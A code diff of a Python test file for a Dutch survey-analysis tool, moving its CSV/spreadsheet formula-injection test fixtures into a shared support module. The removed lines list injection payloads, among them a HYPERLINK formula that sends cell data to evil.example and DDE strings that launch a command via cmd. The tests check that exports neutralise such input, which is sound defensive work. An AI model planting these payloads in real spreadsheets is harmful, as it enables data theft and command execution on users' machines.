@@ -15,73 +15,22 @@ import json
 import zipfile
 from pathlib import Path
 
-import pytest
 from openpyxl import load_workbook
 
-from ledenpanel.analysis.data import Responses
 from ledenpanel.analysis.engine import analyse
 from ledenpanel.analysis.inputs import read_form, read_responses
-from ledenpanel.analysis.inputs.responses_csv_export import DELIMITER, responses_csv_lines
+from ledenpanel.analysis.inputs.responses_csv_export import DELIMITER
 from ledenpanel.analysis.scrub import scrub
 from ledenpanel.cli import main
 from ledenpanel.kernel.cells import TRIGGERS, is_plain_number
-from ledenpanel.kernel.questionnaire.schema import (
-    Option,
-    Question,
-    Questionnaire,
-    QuestionType,
-    Section,
-    validate,
+from tests.support.formula_injection import (
+    AT_SUM,
+    DDE,
+    HYPERLINK,
+    NUMBERS,
+    TITLE,
+    injection_responses,
 )
-from ledenpanel.kernel.xlsform import write_xlsform
-
-HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2;"Klik voor de uitslag")'
-DDE = "-2+3+cmd|' /C calc'!A0"
-AT_SUM = "@SUM(1+9)*cmd|' /C calc'!A0"
-ANSWERS = [HYPERLINK, DDE, AT_SUM, "\t=1+1", "+31 iets", "Gewoon een mening", "'s avonds beter"]
-NUMBERS = [-12.5, -3.0, 0.0, 7.0, -0.25, 4.0, 1.5]
-BANDS = ["=bad", "-", "18-34", "35-64", "65+", "18-34", "35-64"]
-TITLE = "=1+1 Ledenpeiling"
-
-
-def _questionnaire() -> Questionnaire:
-    questions = [
-        Question(
-            name="kanaal",
-            type=QuestionType.SINGLE_CHOICE,
-            label=AT_SUM,
-            options=[Option("krant", HYPERLINK), Option("web", "Website")],
-        ),
-        Question(name="saldo", type=QuestionType.NUMBER, label=DDE, minimum=-100, maximum=100),
-        Question(name="mening", type=QuestionType.LONG_TEXT, label=HYPERLINK, hint=DDE),
-    ]
-    questionnaire = Questionnaire(
-        title=TITLE, sections=[Section(name="algemeen", title=DDE, questions=questions)]
-    )
-    validate(questionnaire)
-    return questionnaire
-
-
-def _responses() -> Responses:
-    return Responses(
-        answers={
-            "kanaal": ["krant", "web", "krant", "web", "krant", "web", None],
-            "saldo": list(NUMBERS),
-            "mening": list(ANSWERS),
-        },
-        background={"leeftijd": list(BANDS)},
-        is_open=None,
-    )
-
-
-@pytest.fixture
-def exported(tmp_path: Path) -> tuple[Path, Path]:
-    form_path = tmp_path / "vragen.xlsx"
-    form_path.write_bytes(write_xlsform(_questionnaire()))
-    form = read_form(form_path)
-    csv_path = tmp_path / "antwoorden.csv"
-    csv_path.write_text("".join(responses_csv_lines(form, _responses())), newline="")
-    return form_path, csv_path
 
 
 def _csv_cells(path: Path) -> list[list[str]]:
@@ -125,7 +74,7 @@ def test_the_export_reads_back_as_the_same_answers(exported) -> None:
 
     again = read_responses(csv_path, form)
 
-    original = _responses()
+    original = injection_responses()
     # The reader trims spaces around a value (it always has): "\t=1+1" is "=1+1".
     assert again.answers["mening"] == [scrub(t).strip() for t in original.answers["mening"]]
     assert again.answers["saldo"] == NUMBERS
@@ -136,7 +85,7 @@ def test_the_export_reads_back_as_the_same_answers(exported) -> None:
 def test_ledenpanel_analyse_gets_the_same_figures_from_the_exports(exported, tmp_path) -> None:
     form_path, csv_path = exported
     form = read_form(form_path)
-    original = _responses()
+    original = injection_responses()
     original.answers["mening"] = [scrub(t).strip() for t in original.answers["mening"]]
 
     code = main(["analyse", str(form_path), str(csv_path), "--out", str(tmp_path / "uit")])
